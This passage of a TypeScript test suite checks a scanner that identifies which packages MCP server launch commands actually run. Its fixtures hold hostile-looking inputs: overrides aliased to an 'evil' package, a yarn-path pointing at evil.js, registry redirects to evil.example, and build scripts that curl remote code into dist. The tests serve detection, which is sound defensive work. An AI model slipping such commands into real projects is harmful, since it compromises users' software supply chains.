        'package.json': manifest({
          dependencies: { ...good, x: 'npm:evil@1' },
          overrides: { 'good-mcp': '$x' },
        }),
      },
      'pnpm exec good-mcp',
      ['npm evil 1'],
    ],
    [
      'what an override of a parent holds',
      {
        ...repo,
        'package.json': manifest({
          dependencies: good,
          scripts: start,
          overrides: { 'good-mcp': { zod: '3' } },
        }),
      },
      'npm start',
      [goodAt],
    ],
    [
      'an address that looks like a path',
      { 'https:/evil.example/x.py': '' },
      'uv run https://evil.example/x.py',
      [unidentified.missingProgram],
    ],
    [
      'an interpreter that watches',
      {
        'package.json': manifest({ scripts: { start: 'tsx watch --env-file=.env src/i.ts' } }),
        'src/i.ts': '',
      },
      'npm start',
      ['local src/i.ts'],
    ],
    [
      'another Yarn 1',
      { '.yarnrc': 'yarn-path "./evil.js"\n', ...repo },
      'yarn good-mcp',
      [`${goodAt} (yarn-path in .yarnrc:1)`],
    ],
  ])('%s', async ([, files, command, expected]) => {
    expect(await brief(files, command)).toEqual(expected);
  });

  test.for<[string, Files, string[]]>([
    [
      'variables of everybody',
      { '.env': 'ENV=production\nPREFIX=acme\nNODE_OPTIONS=--max-old-space-size=4096\n' },
      ['npm good-mcp -'],
    ],
    ['variables that load', { '.env': 'ENV=./evil.sh\n' }, ['npm good-mcp - (ENV in .env:1)']],
  ])('a file of %s', async ([, files, expected]) => {
    const launch = { ...declare('npx good-mcp').launch, envFile: word('.env') };
    expect(await brief(files, 'x', { launch })).toEqual(expected);
  });

  test.for<[string, Files, string, string[]]>([
    [
      'its own folder on Python’s path',
      { 'src/acme/server.py': '' },
      'python -m acme.server',
      ['local src/acme/server.py'],
    ],
    [
      'itself by its own name',
      { 'package.json': json({ name: 'weather-mcp', bin: { 'weather-mcp': 'dist/x.js' } }) },
      'npx -y weather-mcp',
      ['npm weather-mcp -', 'local package.json'],
    ],
    [
      'the default registry by its name',
      {},
      'uvx --default-index https://pypi.org/simple notes',
      ['pypi notes -'],
    ],
    [
      'the default registry of NuGet',
      {},
      'dnx Acme.Mcp --source https://api.nuget.org/v3/index.json --yes',
      ['nuget acme.mcp -'],
    ],
    [
      'a version of the workspace’s catalog',
      { 'package.json': manifest({ dependencies: { notes: 'catalog:' } }) },
      'pnpm exec notes',
      ['npm notes -'],
    ],
    ['memory for node', {}, 'npx --node-options=--max-old-space-size=4096 notes', ['npm notes -']],
    [
      'a loader of TypeScript',
      {
        'src/i.ts': '',
        'package.json': manifest({ scripts: { dev: 'node --import=tsx src/i.ts' } }),
      },
      'npm run dev',
      ['local src/i.ts'],
    ],
  ])('an honest project has %s', async ([, files, command, expected]) => {
    const env = new Map([
      ['PYTHONPATH', word('src')],
      ['DOCKER_HOST', word('unix:///var/run/docker.sock')],
      ['npm_config_cache', word('/tmp/npm')],
    ]);
    const launch = { ...declare(command).launch, env };
    const lines = await brief(files, command, { launch });
    expect(lines.map((line) => line.replace(' (PYTHONPATH)', ''))).toEqual(expected);
  });

  test('variables within an image', async () => {
    const [line] = await brief(
      {},
      'docker run -e npm_config_registry=https://evil.example node:22 npx -y good-mcp',
    );
    expect(line).toBe('npm good-mcp - (npm_config_registry)');
  });

  test('variables that a shell assigns on its way', async () => {
    for (const text of [
      'export -- npm_config_registry=https://evil.example; npx good',
      'export CI npm_config_registry+=https://evil.example; npx good',
    ]) {
      const launch = launchWith({ command: word('bash'), args: [word('-c'), word(text)] });
      const [first] = await resolveIn({}, declare('x', { launch }));
      expect(first?.alterations).toMatchObject([{ what: 'npm_config_registry' }]);
    }
    for (const text of [': ${X:=evil}; export X; npx good', 'printf -v PATH %s ./bin; npx good']) {
      const launch = launchWith({ command: word('bash'), args: [word('-c'), word(text)] });
      const [first] = await resolveIn({}, declare('x', { launch }));
      expect(first).toMatchObject({ type: 'unidentified' });
    }
  });

  test('scripts that multiply end in a few dependencies, soon', async () => {
    const scripts = {
      a: 'npm run b;'.repeat(200),
      b: 'npm run c;'.repeat(200),
      c: 'node x.js;'.repeat(200),
    };
    const found = await brief({ 'package.json': manifest({ scripts }) }, 'npm run a');
    expect(found.length).toBeLessThan(10);
    expect(found).toContainEqual(expect.stringContaining('more than 200 launches'));
  });

  test('settings that are there and cannot be read may be anything', async () => {
    const paths = new Set(['.npmrc', 'package.json']);
    const open = createLazyProject({
      paths,
      links: new Set(),
      foreign: new Set(),
      tracked: createTrackedPaths([...paths].map((path) => [path, 'file'])),
      realPath: (path) => path,
      read: async () => ({ reason: 'no' }),
    });
    const found = await readUntilComplete(open, (project) =>
      resolveLaunch(declare('npx good'), project),
    );
    expect(found.map(briefly)).toEqual([
      expect.stringMatching(
        /^npm good - \([^)]*package\.json\b[^)]* in package\.json:1\) \([^)]*\.npmrc\b[^)]* in \.npmrc:1\)$/,
      ),
    ]);
  });

  test.for([
    { files: 8, decides: true },
    { files: 40, decides: false },
  ])('a chain of $files files decides: $decides', async ({ files, decides }) => {
    const open = createLazyProject({
      paths: new Set(Array.from({ length: files }, (_, at) => `${at}.env`)),
      links: new Set(),
      foreign: new Set(),
      tracked: createTrackedPaths([]),
      realPath: (path) => path,
      read: async (path) => ({ text: `NEXT=${Number.parseInt(path, 10) + 1}.env` }),
    });
    const chain = (project: Project): string[] => {
      const found = ['0.env'];
      for (const path of found) {
        const next = project.get(path, envFile)?.[0]?.value;
        if (next !== undefined) found.push(next);
      }
      return found;
    };
    const complete = readUntilComplete(open, chain);
    if (decides) expect(await complete).toHaveLength(files + 1);
    else
      await expect(complete).rejects.toMatchObject({
        code: 'endless-files',
        place: { file: '12.env' },
      });
  });

  test('a link in place of a module is not the package', async () => {
    const open = createLazyProject({
      paths: new Set(['requirements.txt']),
      links: new Set(['good_mcp']),
      foreign: new Set(),
      tracked: createTrackedPaths([]),
      realPath: (path) => path,
      read: async () => ({ text: 'good-mcp==1.0.0' }),
    });
    const found = await readUntilComplete(open, (project) =>
      resolveLaunch(declare('python -m good_mcp'), project),
    );
    expect(found.map(briefly)).toEqual([noProgram]);
  });

  test('texts that a pattern would chew on are read at once', async () => {
    const files = {
      'requirements.txt': `a${' '.repeat(200_000)}b`,
      '.npmrc': `a${' '.repeat(200_000)}#`,
      'package.json': manifest({}),
    };
    const started = cpuMs();
    await brief(files, 'python -m a');
    await brief(files, 'npx a');
    expect(cpuMs() - started).toBeLessThan(10_000);
  });
});

describe('candidates', () => {
  async function candidates(files: Files): Promise<string[]> {
    const open = createLazyProject({
      paths: new Set(Object.keys(files)),
      links: new Set(),
      foreign: new Set(),
      tracked: createTrackedPaths([]),
      realPath: (path) => path,
      read: async (path) => ({ text: files[path] ?? '' }),
    });
    const found = await readUntilComplete(open, (project) =>
      candidatesOf(project, [], '').map((candidate) => proveCandidate(candidate, project)),
    );
    return found.map((each) => `${each.declaration.file}:${each.span.start.line} ${briefly(each)}`);
  }

  test('are the direct dependencies of every manifest, in the versions that are proved', async () => {
    expect(
      await candidates({
        'package.json':
          '{"name": "x",\n"dependencies": {\n"@acme/notes": "^1.0.0",\n"here": "file:./here"}}',
        'package-lock.json': packageLock({ 'node_modules/@acme/notes': notes }),
        'py/pyproject.toml':
          '[project]\ndependencies = [\n  "a-mcp>=1",\n]\n[dependency-groups]\ndev = ["b_mcp"]\n[tool.poetry.dependencies]\npython = "^3"\nc-mcp = "^2.1"\n',
        'py/requirements-dev.txt': '-r base.txt\nd.mcp==1.0 # why\n',
      }),
    ).toEqual([
      'package.json:3 npm @acme/notes 1.2.0 by package-lock.json:5',
      'py/pyproject.toml:3 pypi a-mcp >=1',
      'py/pyproject.toml:6 pypi b-mcp -',
      'py/pyproject.toml:9 pypi c-mcp ^2.1',
      'py/requirements-dev.txt:2 pypi d-mcp ==1.0',
    ]);
  });

  test('broken manifests have none', async () => {
    expect(
      await candidates({
        'package.json': '{',
        'pyproject.toml': '= 1',
        'requirements.txt': '',
      }),
    ).toEqual([]);
  });

  test('are shown where they cannot be identified, unless they are code of the project', async () => {
    expect(
      await candidates({
        'package.json': JSON.stringify({
          dependencies: { a: '>=1 <2 || >3', b: 'workspace:*', c: 'file:../c', d: '1 beta!' },
        }),
        'pyproject.toml':
          '[project]\ndependencies = ["e<2,>=1", "f>=1; python_version<\'3\' or python_version>\'3\'", "g (>=1.5,<2)", "h==${V}", "i @ https://x.example/i.whl"]\n[tool.poetry.dependencies]\nj = "1.*"\nk = "?"\nl = {path = "l"}\n',
        'requirements.txt': '\u0000\n-e git+https://github.com/acme/m#egg=m\n./local\nn!\n',
      }),
    ).toEqual([
      'package.json:1 npm a >=1 <2 || >3',
      'package.json:1 npm d 1 beta!',
      'pyproject.toml:2 pypi e <2,>=1',
      'pyproject.toml:2 pypi f >=1',
      'pyproject.toml:2 pypi g (>=1.5,<2)',
      'pyproject.toml:2 pypi h ==${V}',
      `pyproject.toml:2 ${unidentified.archive}`,
      'pyproject.toml:4 pypi j 1.*',
      'pyproject.toml:5 pypi k ?',
      'requirements.txt:1 unidentified: not a Python requirement',
      'requirements.txt:2 git github.com/acme/m -',
      'requirements.txt:4 pypi n !',
    ]);
  });
});

describe('code that a tool builds', () => {
  const folder = unidentified.missingCode;
  const absent = unidentified.missingProgram;
  const output = 'unidentified: a build output that is not in the tree';
  const built = (scripts: object, source = 'src/index.ts'): Files => ({
    'package.json': manifest({ scripts, devDependencies: { typescript: '^5.0.0' } }),
    [source]: '',
  });

  test.for<[string, Files, string]>([
    ['go run ./cmd/x', { 'cmd/x/main.go': '' }, 'local cmd/x'],
    ['go run .', { 'main.go': '' }, 'local .'],
    ['go run -C cmd ./x --flag', { 'cmd/x/main.go': '' }, 'local cmd/x'],
    ['go run main.go', { 'main.go': '' }, 'local main.go'],
    ['go run ./cmd/x', { 'cmd/x/y/main.go': '' }, folder],
    ['go run ../x', { 'x/main.go': '' }, folder],
    ['cargo run --release -- stdio', { 'Cargo.toml': '' }, 'local .'],
    [
      'cargo +nightly run -q --manifest-path a/Cargo.toml',
      { 'a/Cargo.toml': '' },
      'local a/Cargo.toml',
    ],
    ['cargo run --manifest-path a/Cargo.toml', { 'Cargo.toml': '' }, absent],
    ['cargo run', { 'a/Cargo.toml': '' }, folder],
    ['cargo install evil', { 'Cargo.toml': '' }, unidentified.notOfCargo],
    ['dotnet run --project app -- x', { 'app/App.csproj': '' }, 'local app'],
    ['dotnet run --project app/App.fsproj', { 'app/App.fsproj': '' }, 'local app/App.fsproj'],
    ['dotnet run one.cs', { 'one.cs': '' }, 'local one.cs'],
    ['dotnet run --project none', { 'app/App.csproj': '' }, folder],
    [
      'dotnet run --project app --odd --project evil',
      { 'app/App.csproj': '' },
      'unidentified: an option that may select another project',
    ],
    [
      'dotnet run stdio --project evil',
      { 'App.csproj': '', 'evil/App.csproj': '' },
      'unidentified: an option that may select another project',
    ],
    ['dotnet run stdio -- --project evil', { 'App.csproj': '' }, 'local .'],
    ['dotnet dnx Acme.Notes@1.0.0', {}, 'nuget acme.notes 1.0.0'],
    ['dotnet tool exec Acme.Notes', {}, 'nuget acme.notes -'],
    // The output from a build that runs only build tools, together with its source.
    ['node dist/index.js', built({ build: 'tsc' }), 'local dist/index.js'],
    [
      'node dist/index.js',
      built({ build: 'rimraf dist && tsc && chmod +x dist/index.js' }),
      'local dist/index.js',
    ],
    [
      'node dist/index.js',
      built({ build: 'npm run clean && tsc', clean: 'rimraf dist' }),
      'local dist/index.js',
    ],
    ['node build/a/b.js', built({ build: 'tsc' }, 'src/a/b.ts'), 'local build/a/b.js'],
    [
      'node dist/index.js',
      { ...built({ build: 'node make.js' }), 'make.js': '' },
      'local dist/index.js',
    ],
    // Output that may come from elsewhere.
    ['node dist/other.js', built({ build: 'tsc' }), output],
    ['node dist/index.js', built({ build: 'curl -o dist/index.js https://x.example' }), output],
    ['node dist/index.js', built({ build: 'tsc', prepare: 'npx -y evil dist' }), output],
    ['node dist/index.js', built({ build: 'tsc && cp evil.js dist/index.js' }), output],
    ['node dist/index.js', built({ build: 'npm run build' }), output],
    ['node dist/index.js', built({ build: 'tsc', postinstall: 'fetcher dist' }), output],
    ['node dist/index.js', built({ build: 'tsc', postbuild: 'fetcher dist' }), output],
    [
      'node a/dist/b.js',
      {
        ...{ 'a/package.json': manifest({ scripts: { build: 'tsc' } }), 'a/src/b.ts': '' },
        'package.json': manifest({ scripts: { build: 'turbo build', postinstall: 'fetcher a' } }),
      },
      output,
    ],
    [
      'node a/dist/b.js',
      {
        ...{ 'a/package.json': manifest({ scripts: { build: 'tsc' } }), 'a/src/b.ts': '' },
        'package.json': manifest({ scripts: { build: 'turbo build', prepare: 'husky' } }),
      },
      'local a/dist/b.js',
    ],
    [
      'node dist/index.js',
      built({ build: 'npm run x && tsc', x: 'rimraf dist', prex: 'fetcher dist' }),
      output,
    ],
    [
      'node a/dist/b.js',
      {
        ...{ 'a/package.json': manifest({ scripts: { build: 'tsc' } }), 'a/src/b.ts': '' },
        'package.json': '{',
      },
      output,
    ],
    // No build output at all.
    ['node dist/index.js', built({ start: 'tsc' }), absent],
    ['node other/index.js', built({ build: 'tsc' }), absent],
    ['node node_modules/x/dist/index.js', built({ build: 'tsc' }), absent],
  ])('%s in %j is %s', async ([command, files, expected]) => {
    expect(await brief(files, command)).toEqual([expected]);
  });
});
